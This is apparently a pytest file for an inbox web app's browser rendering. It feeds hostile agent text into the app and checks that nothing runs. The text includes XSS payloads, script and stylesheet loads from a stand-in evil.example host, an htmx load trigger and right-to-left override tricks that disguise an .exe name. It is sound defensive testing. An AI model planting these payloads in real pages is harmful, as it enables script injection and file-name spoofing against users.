"""Hostile words of agents in a real browser: nothing runs, nothing is fetched, nothing is out of place."""

from __future__ import annotations

import pytest
from browser_kit import is_shown_whole, person
from inbox_kit import ask
from test_inbox_hostile import HOSTILE, everything

pytestmark = pytest.mark.asyncio(loop_scope="module")

MORE = [
    "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>",
    "<a href=javascript:alert(1)>x</a><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content=0>",
    "<div hx-get=https://evil.example hx-trigger=load></div><div data-hx-on:load=alert(1)>",
    "</script><script src=https://evil.example/x.js></script>",
    "\u05d0\u05d1\u05d2 \u202egnp.exe\u202c \u2067\u0627\u0644\u2069" * 20,
    "very_long_name_of_a_thing_" * 200,
]
PATHS = (
    "/inbox",
    "/inbox/requests/{id}",
    "/inbox/requests/{done}",
    "/inbox/history",
    "/inbox/analytics",
    "/inbox/policy",
    "/inbox/audit",
)


async def test_hostile_text_does_nothing_and_stays_in_its_place(browser, service):
    """No dialog, no error, no request elsewhere, nothing beside the page: see `person`."""
    told = []
    for text in (*HOSTILE, *MORE):
        told.append(await everything(service, text))
    async with person(browser, service) as page:
        for number, (request, done) in enumerate(told):
            for path in PATHS if number == 0 else PATHS[1:3]:
                await page.goto(path.format(id=request.id, done=done.id))
                await is_shown_whole(page)
                assert await page.evaluate("document.scripts.length") == 2
                for tag in ("iframe", "img", "embed", "object", "base", "animate", "style"):
                    assert await page.locator(tag).count() == 0


async def test_a_megabyte_of_words_is_shown_as_words(browser, service):
    await ask(service, description="<b>long</b> " * 80_000, details={"x": "y" * 250_000})
    request = await ask(service, "email", description="w" * 900_000)
    async with person(browser, service) as page:
        await is_shown_whole(page)
        await page.goto(f"/inbox/requests/{request.id}")
        await is_shown_whole(page)
        words = page.locator("blockquote")
        assert "of 900,000 characters are shown" in await words.inner_text()


async def test_live_news_of_hostile_text_is_inert_too(browser, service):
    """It is put into an open page by a script, not by loading it."""
    async with person(browser, service) as page:
        for text in MORE:
            request = await ask(service, "email", description=text, details={"text": text})
            await page.locator(f"#card-{request.id}").wait_for()
        await is_shown_whole(page)
        assert await page.evaluate("document.scripts.length") == 2
